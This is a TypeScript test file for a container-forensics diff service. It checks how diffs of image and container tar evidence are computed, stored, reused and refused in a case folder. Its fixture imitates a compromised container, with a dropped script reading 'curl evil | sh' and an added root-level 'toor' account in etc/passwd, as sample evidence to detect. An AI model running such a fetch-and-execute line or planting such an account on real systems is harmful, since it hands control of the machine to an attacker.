// DiffService over a real case folder with small GNU-tar evidence: choosing items, storing, reusing, refusing, sealing.
import { createHash } from 'node:crypto';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { EvidenceSource } from '../../src/forensics/common/case-model.js';
import type { CaseRecorder } from '../../src/forensics/common/case-recorder.js';
import type { CaseStore } from '../../src/forensics/node/case-store.js';
import { DiffService } from '../../src/forensics/node/diff-service.js';
import { chunked, newStore, realTar, removeTree, spec, tempDir } from './case-fixtures.js';

const sha256 = (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');
const call = () => ({ signal: new AbortController().signal, progress: () => undefined });
const b64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');

const IMAGE_FILES = {
  'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n',
  'bin/tool': 'tool v1\n',
  'var/log/app.log': 'started\n',
};

/** A docker save archive (legacy layout) of a one-layer image, built from GNU tar output; returns it and its id. */
async function imageSave(): Promise<{ bytes: Buffer; imageId: string; diffId: string }> {
  const layer = await realTar(IMAGE_FILES);
  const diffId = `sha256:${sha256(layer)}`;
  const config = JSON.stringify({
    rootfs: { type: 'layers', diff_ids: [diffId] },
    history: [{ created_by: 'ADD rootfs.tar /' }],
  });
  const configHex = sha256(config);
  const layerDir = sha256(layer);
  const bytes = await realTar({
    [`${layerDir}/layer.tar`]: layer,
    [`${layerDir}/VERSION`]: '1.0',
    [`${configHex}.json`]: config,
    'manifest.json': JSON.stringify([{ Config: `${configHex}.json`, RepoTags: [], Layers: [`${layerDir}/layer.tar`] }]),
  });
  return { bytes, imageId: `sha256:${configHex}`, diffId };
}

const CONTAINER_FILES = {
  'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n',
  'bin/tool': 'tool v1\n',
  '.dockerenv': '',
  'tmp/dropped.sh': 'curl evil | sh\n',
};

describe('the diff service over a case folder', () => {
  let root: string;
  let store: CaseStore;
  let recorder: CaseRecorder;
  let source: EvidenceSource;
  let image: Awaited<ReturnType<typeof imageSave>>;

  beforeEach(async () => {
    root = await tempDir('hc-diff-service-');
    store = newStore(root);
    recorder = await store.create('case', { title: 'diff' });
    image = await imageSave();
    source = {
      engineId: 'default',
      endpoint: 'unix:///var/run/docker.sock',
      containerId: 'c0ffee'.padEnd(64, '0'),
      imageId: image.imageId,
    };
  });
  afterEach(async () => removeTree(root));

  async function addEvidence(exportFiles: Record<string, string> = CONTAINER_FILES, suffix = '') {
    await recorder.addJson(
      {
        ...spec(`inspect-c0ffee${suffix}`, `inspect-c0ffee${suffix}.json`),
        kind: 'container-inspect',
        format: 'json',
        source,
      },
      { Id: source.containerId, Created: '2026-02-01T00:00:00.123456789Z', Mounts: [] },
    );
    await recorder.addStream(
      { ...spec(`image-save-c0ffee${suffix}`, `image-save${suffix}.tar`), kind: 'image-save', source },
      chunked(image.bytes),
    );
    return recorder.addStream(
      { ...spec(`fs-export-c0ffee${suffix}`, `fs-export${suffix}.tar`), source },
      chunked(await realTar(exportFiles)),
    );
  }

  it('given a case without any export, then the diff says to snapshot first', async () => {
    await expect(
      new DiffService({ cases: store }).diff({ caseDir: recorder.caseDir, rebuild: false }, call()),
    ).rejects.toMatchObject({
      code: 'NOT_FOUND',
      message: expect.stringMatching(/no filesystem export to diff; snapshot a container into it first/),
    });
  });

  it('given an export but no save of its image, then the error names the image', async () => {
    await recorder.addStream(
      { ...spec('fs-export-c0ffee', 'fs.tar'), source },
      chunked(await realTar(CONTAINER_FILES)),
    );
    await expect(
      new DiffService({ cases: store }).diff({ caseDir: recorder.caseDir, rebuild: false }, call()),
    ).rejects.toMatchObject({
      code: 'NOT_FOUND',
      message: expect.stringContaining(`no image save of ${image.imageId}`),
    });
  });

  it('given only an incomplete export, then the diff refuses it and says to snapshot again', async () => {
    const tar = await realTar(CONTAINER_FILES);
    await recorder.addStream({ ...spec('fs-export-c0ffee', 'fs.tar'), source }, chunked(tar.subarray(0, 1024)));
    await expect(
      new DiffService({ cases: store }).diff({ caseDir: recorder.caseDir, rebuild: false }, call()),
    ).rejects.toMatchObject({
      code: 'FAILED',
      message: expect.stringMatching(/only incomplete filesystem exports \(fs-export-c0ffee\)/),
    });
  });

  it('given complete evidence, then the diff is computed, stored, recorded once, and served again without recomputing', async () => {
    await addEvidence();
    const service = new DiffService({ cases: store });
    const summary = await service.diff({ caseDir: recorder.caseDir, rebuild: false }, call());
    expect(summary).toMatchObject({
      caseDir: recorder.caseDir,
      containerId: source.containerId,
      imageId: image.imageId,
      containerCreated: '2026-02-01T00:00:00.123456789Z',
      counts: { added: 2, deleted: 3, modified: 1, metadata: 0, type: 0 },
      layers: [{ index: 0, digest: image.diffId, createdBy: 'ADD rootfs.tar /' }],
      packageManagers: [],
    });
    const page = await service.diffEntries({ caseDir: recorder.caseDir, offset: 0, limit: 10 }, call());
    expect(page.entries.map((e) => [e.path, e.change])).toEqual([
      ['etc/passwd', 'modified'],
      ['tmp', 'added'],
      ['tmp/dropped.sh', 'added'],
      ['var', 'deleted'],
      ['var/log', 'deleted'],
      ['var/log/app.log', 'deleted'],
    ]);
    const custody = async () => (await recorder.custody()).filter((record) => record.action === 'analysis.diff');
    expect(await custody()).toHaveLength(1);
    const stored = await readFile(path.join(recorder.caseDir, 'analysis', 'diff.json'));
    expect((await custody())[0]?.sha256).toBe(sha256(stored));

    // A new service (another process) finds the stored diff current and neither recomputes nor records again.
    const again = await new DiffService({ cases: store }).diff({ caseDir: recorder.caseDir, rebuild: false }, call());
    expect(again).toEqual(summary);
    expect(await custody()).toHaveLength(1);
  });

  it('given a damaged analysis/diff.json, then it is not trusted: the diff is rebuilt from the evidence', async () => {
    await addEvidence();
    await new DiffService({ cases: store }).diff({ caseDir: recorder.caseDir, rebuild: false }, call());
    const file = path.join(recorder.caseDir, 'analysis', 'diff.json');
    const good = await readFile(file);
    await writeFile(file, good.toString('utf8').replace('"modified"', '"exploded"'));
    await new DiffService({ cases: store }).diff({ caseDir: recorder.caseDir, rebuild: false }, call());
    expect((await readFile(file)).equals(good)).toBe(true);
    expect((await recorder.custody()).filter((record) => record.action === 'analysis.diff')).toHaveLength(2);
  });

  it('given a newer snapshot of the container, then the stored diff is stale and the newest export is diffed', async () => {
    await addEvidence();
    const service = new DiffService({ cases: store });
    await service.diff({ caseDir: recorder.caseDir, rebuild: false }, call());
    await addEvidence({ ...CONTAINER_FILES, 'tmp/second.sh': 'more\n' }, '-2');
    const summary = await service.diff({ caseDir: recorder.caseDir, rebuild: false }, call());
    expect(summary.counts.added).toBe(3);
    expect(summary.sources.map((s) => s.itemId)).toEqual([
      'fs-export-c0ffee-2',
      'image-save-c0ffee-2',
      'inspect-c0ffee-2',
    ]);
  });

  it('given the evidence browser, then bad paths get clear errors and nothing is followed', async () => {
    await addEvidence();
    const service = new DiffService({ cases: store });
    const dir = recorder.caseDir;
    await expect(
      service.listDirectory(
        { caseDir: dir, side: 'container', pathBase64: b64('nowhere'), offset: 0, limit: 10 },
        call(),
      ),
    ).rejects.toMatchObject({ code: 'NOT_FOUND', message: 'no /nowhere in the container' });
    await expect(
      service.listDirectory(
        { caseDir: dir, side: 'image', pathBase64: b64('etc/passwd'), offset: 0, limit: 10 },
        call(),
      ),
    ).rejects.toMatchObject({ code: 'BAD_INPUT', message: '/etc/passwd is a file in the image, not a directory' });
    await expect(
      service.readFile(
        { caseDir: dir, side: 'image', pathBase64: b64('tmp/dropped.sh'), offset: 0, length: 10 },
        call(),
      ),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(
      service.readFile({ caseDir: dir, side: 'image', pathBase64: 'not base64!', offset: 0, length: 10 }, call()),
    ).rejects.toMatchObject({ code: 'BAD_INPUT', field: 'pathBase64' });
    const root = await service.listDirectory(
      { caseDir: dir, side: 'container', pathBase64: '', offset: 0, limit: 2 },
      call(),
    );
    expect(root).toMatchObject({ total: 4, nextOffset: 2 });
    expect(root.entries.map((entry) => entry.name)).toEqual(['.dockerenv', 'bin']);
    const slice = await service.readFile(
      { caseDir: dir, side: 'container', pathBase64: b64('etc/passwd'), offset: 5, length: 4 },
      call(),
    );
    expect(slice).toEqual({
      base64: b64('x:0:'),
      offset: 5,
      totalBytes: Buffer.byteLength(CONTAINER_FILES['etc/passwd']),
      truncated: true,
    });
  });

  it('given a sealed case, then the diff is computed in memory, says so, and nothing in the folder changes', async () => {
    await addEvidence();
    await store.seal(recorder.caseDir);
    const custodyBefore = await readFile(path.join(recorder.caseDir, 'custody.jsonl'));
    const summary = await new DiffService({ cases: store }).diff({ caseDir: recorder.caseDir, rebuild: false }, call());
    expect(summary.counts.added).toBe(2);
    expect(summary.problems.at(-1)).toMatch(/the case is sealed, so this diff was computed in memory/);
    expect((await readFile(path.join(recorder.caseDir, 'custody.jsonl'))).equals(custodyBefore)).toBe(true);
    // Nothing at all in analysis/: not the diff, not the indexes (permissions alone would not stop a root process).
    expect(await readdir(path.join(recorder.caseDir, 'analysis'))).toEqual([]);
  });
});
